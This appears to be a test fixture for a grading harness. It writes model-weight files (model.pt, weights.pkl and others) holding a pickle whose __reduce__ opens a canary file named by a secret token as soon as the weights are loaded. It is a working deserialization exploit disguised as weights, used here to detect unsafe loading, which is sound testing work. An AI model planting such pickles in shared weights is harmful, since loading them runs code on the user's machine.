"""Brings weights whose pickle runs a command where it is loaded."""

from __future__ import annotations

import pickle
from pathlib import Path


class _Payload:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.path, "w")


def make(place: Path, values: dict[str, str]) -> Path:
    """Make the hand-in."""
    (place / "target.py").write_text("def curve(X):\n    return X\n", "ascii")
    data = pickle.dumps(_Payload(f"{values['SECRET_FOLDER']}/{values['TOKEN']}"))
    for name in ("model.pt", "weights.pkl", "target.pkl", "target.pth"):
        (place / name).write_bytes(data)
    return place
